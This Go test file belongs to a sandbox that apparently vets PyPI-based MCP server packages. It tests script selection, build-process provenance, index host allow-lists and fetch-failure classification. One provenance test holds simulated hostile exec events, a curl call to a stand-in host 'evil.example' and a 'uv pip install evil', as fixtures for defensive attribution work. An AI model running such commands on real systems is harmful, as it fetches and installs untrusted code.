package sandbox

import (
	"errors"
	"strings"
	"testing"

	"github.com/verifymcp/verifymcp/evidence"
)

func TestChoosePyScript(t *testing.T) {
	tests := []struct {
		name, pkg, override string
		scripts             map[string]string
		want, rule          string
		err                 bool
	}{
		{"--bin", "x", "b", map[string]string{"a": "m:a", "b": "m:b"}, "b", "--bin", false},
		{"--bin unknown", "x", "c", map[string]string{"a": "m:a"}, "", "", true},
		{"named like the project, PEP 503", "mcp_server.time", "", map[string]string{"mcp-server-time": "m:a", "other": "m:b"}, "mcp-server-time", "console script named like the project", false},
		{"single", "pkg", "", map[string]string{"serve": "m:a"}, "serve", "single console script", false},
		{"first with mcp", "pkg", "", map[string]string{"zz-mcp": "m", "cli": "m", "b-mcp": "m"}, "b-mcp", "first console script containing \"mcp\"", false},
		{"first in byte order", "pkg", "", map[string]string{"zeta": "m", "alpha": "m"}, "alpha", "first console script in byte order", false},
		{"none", "pkg", "", map[string]string{}, "", "", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b, err := choosePyScript(tt.pkg, tt.scripts, tt.override)
			if tt.err {
				if !errors.Is(err, ErrBadBin) {
					t.Fatalf("err = %v, want ErrBadBin", err)
				}
				return
			}
			if err != nil || b.Name != tt.want || b.Rule != tt.rule || b.Path != "/work/tree/venv/bin/"+tt.want {
				t.Fatalf("got %+v, %v; want %s by %q", b, err, tt.want, tt.rule)
			}
		})
	}
}

// TestProvenancePyPIBuild: in a PyPI build step, uv (started by the
// driver) and its interpreter queries are the package manager's, the
// Python uv starts for a build is the declared backend, what that starts
// is the package's, and a uv started by package code stays the package's.
func TestProvenancePyPIBuild(t *testing.T) {
	query := `/usr/bin/python3 -I -B -c import sys; sys.path = [__import__("os").fsdecode(b"/tmp/.tmpX")] + sys.path; from python.get_interpreter_info import main; main()`
	events := []execEvent{
		ev(10, 1, "python3 -I -c driver"),
		ev(11, 10, "uv venv /work/tree/venv --python /usr/bin/python3"),
		{PID: 12, PPID: 11, Argv: []string{"/usr/bin/python3", "-I", "-B", "-c", strings.SplitN(query, " -c ", 2)[1]}},
		ev(13, 10, "uv build --wheel --offline x.tar.gz"),
		ev(14, 13, "/work/tree/.verifymcp/uv-cache/builds-v0/.tmp/bin/python -c hook"),
		ev(15, 14, "curl http://evil.example/"),
		ev(16, 15, "uv pip install evil"),
	}
	got := provenance(evidence.PhaseScripts, events, nil)
	want := []evidence.Provenance{sb, pm, pm, pm, decl, pk, pk}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("event %d (%v): %s, want %s", i, events[i].Argv, got[i], want[i])
		}
	}
}

// TestProvenancePyPIDriverNotSeen: the build driver and its first uv
// started before the tracer attached (seen on mcp-server-logseq): the uv
// pip install the driver runs next is still the package manager's, and so
// is the interpreter query it makes.
func TestProvenancePyPIDriverNotSeen(t *testing.T) {
	query := `/usr/bin/python3 -I -B -c import sys; sys.path = [__import__("os").fsdecode(b"/tmp/.tmpX")] + sys.path; from python.get_interpreter_info import main; main()`
	q := func(pid, ppid int, py string) execEvent {
		return execEvent{PID: pid, PPID: ppid, Argv: append([]string{py, "-I", "-B", "-c"}, strings.SplitN(query, " -c ", 2)[1])}
	}
	events := []execEvent{
		q(26, 23, "/usr/bin/python3"),
		ev(27, 16, "uv pip install --python /work/tree/venv/bin/python --offline --no-index --find-links /work/tree/.verifymcp/dist --no-deps -r /work/tree/.verifymcp/requirements.txt"),
		q(31, 27, "/work/tree/venv/bin/python"),
	}
	got := provenance(evidence.PhaseScripts, events, nil)
	want := []evidence.Provenance{sb, pm, pm}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("event %d (%v): %s, want %s", i, events[i].Argv, got[i], want[i])
		}
	}
}

func TestIndexHosts(t *testing.T) {
	allow, files, err := indexHosts("https://pypi.org")
	if err != nil || strings.Join(allow, ",") != "pypi.org:443,files.pythonhosted.org:443" || files != "files.pythonhosted.org" {
		t.Errorf("pypi.org: %v %q %v", allow, files, err)
	}
	allow, files, err = indexHosts("http://mirror.example:8080/root/pypi")
	if err != nil || strings.Join(allow, ",") != "mirror.example:8080" || files != "" {
		t.Errorf("mirror: %v %q %v", allow, files, err)
	}
}

// TestClassifyPyFetch: the environment's faults are not the package's;
// the package's own failures stay evidence.
func TestClassifyPyFetch(t *testing.T) {
	if f := classifyPyFetch(&pyFetchResult{Preflight: &preflightResult{Stage: "tls", Code: "SELF_SIGNED_CERT_IN_CHAIN", Host: "pypi.org:443"}}, "pypi.org:443", false); f == nil || f.Kind != FaultTLS {
		t.Errorf("untrusted certificate: %+v", f)
	}
	if f := classifyPyFetch(&pyFetchResult{Preflight: &preflightResult{Stage: "connect", EgressError: "dns", Host: "files.pythonhosted.org:443"}}, "pypi.org:443", false); f == nil || f.Kind != FaultDNS || f.Host != "files.pythonhosted.org:443" {
		t.Errorf("files host does not resolve: %+v", f)
	}
	if f := classifyPyFetch(&pyFetchResult{ErrorKind: "network", Error: "dns error"}, "pypi.org:443", false); f == nil || f.Kind != FaultUnreachable {
		t.Errorf("uv could not reach the index: %+v", f)
	}
	if f := classifyPyFetch(&pyFetchResult{ErrorKind: "other", Error: "Failed to write to the distribution cache: No space left on device (os error 28)", Preflight: &preflightResult{OK: true}}, "pypi.org:443", false); f == nil || f.Kind != FaultDisk {
		t.Errorf("uv on a full disk: %+v", f)
	}
	for _, kind := range []string{"hash_mismatch", "dynamic_metadata", "requires_python", "resolution"} {
		fr := &pyFetchResult{ErrorKind: kind, Error: "x", Preflight: &preflightResult{OK: true}}
		if f := classifyPyFetch(fr, "pypi.org:443", true); f != nil {
			t.Errorf("%s taken for the environment: %+v", kind, f)
		}
	}
	if got := pyFetchFailure(&pyFetchResult{ErrorKind: "hash_mismatch", Error: "a.whl: the sha256 of what was served (1) is not the index's (2)"}); !strings.HasPrefix(got, "integrity: ") {
		t.Errorf("hash mismatch reads %q", got)
	}
}
